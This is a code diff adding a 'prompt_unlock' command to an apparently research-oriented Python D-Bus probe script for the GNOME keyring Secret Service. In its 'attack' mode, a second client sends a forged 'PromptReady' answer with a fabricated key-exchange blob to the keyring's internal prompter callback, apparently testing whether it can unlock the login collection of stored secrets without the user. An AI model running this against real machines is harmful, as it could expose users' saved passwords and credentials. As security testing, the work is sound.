@@ -278,6 +278,41 @@ def listen(b, probe, socket, uid):
     print("ItemCreated:", {str(k): str(v) for k, v in a.items()})
 
 
+def prompt_unlock(b, attack):
+    """Unlock the login collection through the system prompter; with `attack`, another
+    client first answers the prompt's callback in the prompter's place."""
+    from dbus.mainloop.glib import DBusGMainLoop
+    from gi.repository import GLib
+    DBusGMainLoop(set_as_default=True)
+    b = dbus.SessionBus(private=True)
+    login = BASE + "/collection/login"
+    print("Locked before:", bool(obj(b, login).Get(COL, "Locked", dbus_interface=PROPS)))
+    unlocked, prompt = obj(b, BASE).Unlock([login], dbus_interface=SVC)
+    done = []
+    loop = GLib.MainLoop()
+
+    def completed(dismissed, result):
+        done.append((bool(dismissed), [str(p) for p in result]))
+        loop.quit()
+
+    b.add_signal_receiver(completed, "Completed", "org.freedesktop.Secret.Prompt", path=prompt)
+    b.get_object(BUS, prompt).Prompt("", dbus_interface="org.freedesktop.Secret.Prompt")
+    if attack:
+        time.sleep(1)
+        owner = b.get_name_owner(BUS)
+        callback = "/org/gnome/keyring/Prompt/arca" + prompt.rsplit("/", 1)[1]
+        forged = "[sx-aes-1]\npublic=Ag==\nsecret=AAAAAAAAAAAAAAAAAAAAAA==\niv=AAAAAAAAAAAAAAAAAAAAAA==\n"
+        print("PromptReady from another client:", err(lambda: b.get_object(owner, callback).PromptReady(
+            "yes", dbus.Dictionary({}, signature="sv"), forged,
+            dbus_interface="org.gnome.keyring.internal.Prompter.Callback")))
+        print("Locked after the forged answer:", bool(obj(b, login).Get(COL, "Locked", dbus_interface=PROPS)))
+        b.get_object(BUS, prompt).Dismiss(dbus_interface="org.freedesktop.Secret.Prompt")
+    GLib.timeout_add(20000, loop.quit)
+    loop.run()
+    print("Completed:", done)
+    print("Locked after:", bool(obj(b, login).Get(COL, "Locked", dbus_interface=PROPS)))
+
+
 if __name__ == "__main__":
     command, rest = sys.argv[1], sys.argv[2:]
     b = bus()
@@ -290,3 +325,8 @@ if __name__ == "__main__":
     elif command == "listen": listen(b, *rest)
     elif command == "libsecret": libsecret()
     elif command == "lockedprop": locked_property(b)
+    elif command == "prompt": prompt_unlock(b, rest == ["attack"])
+    elif command == "label":
+        print(obj(b, BASE + "/collection/login").Get(COL, "Label", dbus_interface=PROPS))
+    elif command == "collocked":
+        print(bool(obj(b, BASE + "/collection/login").Get(COL, "Locked", dbus_interface=PROPS)))
